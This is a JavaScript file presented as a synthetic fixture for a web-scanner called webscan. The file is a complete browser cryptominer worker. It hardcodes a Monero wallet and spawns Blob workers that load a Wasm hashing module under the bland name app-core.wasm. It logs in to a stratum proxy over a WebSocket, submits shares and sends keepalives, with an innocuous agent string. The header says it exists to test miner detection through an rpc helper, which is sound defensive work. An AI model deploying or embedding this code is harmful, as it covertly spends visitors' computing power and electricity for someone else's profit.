/* webscan fixture (synthetic): the worker of miner/self-hosted-stratum.html. It speaks Monero
 * stratum to a first-party proxy on its own origin and runs nested Blob workers that hash with
 * the real Wasm miner. Crawled (as part of its page): miner. Static verdict on its own: miner,
 * though the messages go through an rpc(method, params) helper: the engine rebuilds each
 * message from the helper's envelope and the call (webscan/js/helper_calls.py). */
var WALLET = "4MASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf";
var rpcId = 1, session = null, job = null, tasks = [], sock = null;

function task() {
  var ex = null, job = null, nonce = 0;
  function hex(b) { var s = ""; for (var i = 0; i < b.length; i++) s += (b[i] < 16 ? "0" : "") + b[i].toString(16); return s; }
  function bytes(h) { var o = new Uint8Array(h.length / 2); for (var i = 0; i < o.length; i++) o[i] = parseInt(h.substr(2 * i, 2), 16); return o; }
  function step() {
    if (!ex || !job) return;
    var n = ex.a(nonce, 1) >>> 0, h = new Uint8Array(ex.memory.buffer, ex.d(), 32);
    var t = bytes(job.target), hv = 0, tv = 0;
    for (var i = 3; i >= 0; i--) { hv = hv * 256 + h[28 + i]; tv = tv * 256 + t[i]; }
    if (hv < tv) postMessage({ job_id: job.job_id, nonce: hex([n & 255, (n >>> 8) & 255, (n >>> 16) & 255, n >>> 24]), result: hex(h) });
    nonce = (nonce + 1) >>> 0;
    setTimeout(step, 0);
  }
  onmessage = function (e) {
    if (e.data.wasm) {
      fetch(e.data.wasm).then(function (r) { return r.arrayBuffer(); })
        .then(function (b) { return WebAssembly.instantiate(b); })
        .then(function (r) { ex = r.instance.exports; if (job) { load(); step(); } });
    } else {
      var first = !job; job = e.data.job; nonce = e.data.start;
      if (ex) { load(); if (first) step(); }
    }
  };
  function load() { new Uint8Array(ex.memory.buffer, ex.c(), 76).set(bytes(job.blob)); }
}

function rpc(method, params) {
  sock.send(JSON.stringify({ id: rpcId++, jsonrpc: "2.0", method: method, params: params }));
}
function setJob(j) {
  job = j;
  tasks.forEach(function (t, i) { t.postMessage({ job: j, start: (i * 0x10000000) >>> 0 }); });
}
function go(threads) {
  var src = URL.createObjectURL(new Blob(["(" + task.toString() + ")()"], { type: "text/javascript" }));
  var wasm = new URL("/assets/app-core.wasm", self.location.href).href;
  for (var i = 0; i < threads; i++) {
    var t = new Worker(src);
    t.onmessage = function (e) {
      if (job && e.data.job_id === job.job_id && sock.readyState === 1)
        rpc("submit", { id: session, job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result });
    };
    t.postMessage({ wasm: wasm });
    tasks.push(t);
  }
  sock = new WebSocket("ws://" + self.location.host + "/pool/stratum");
  sock.onopen = function () { rpc("login", { login: WALLET, pass: "x", agent: "sync/1.2" }); };
  sock.onmessage = function (e) {
    var m = JSON.parse(e.data);
    if (m.result && m.result.job) { session = m.result.id; setJob(m.result.job); }
    else if (m.method === "job") setJob(m.params);
  };
  setInterval(function () { if (session && sock.readyState === 1) rpc("keepalived", { id: session }); }, 5000);
}
onmessage = function (e) { if (e.data.cmd === "go") go(e.data.threads); };
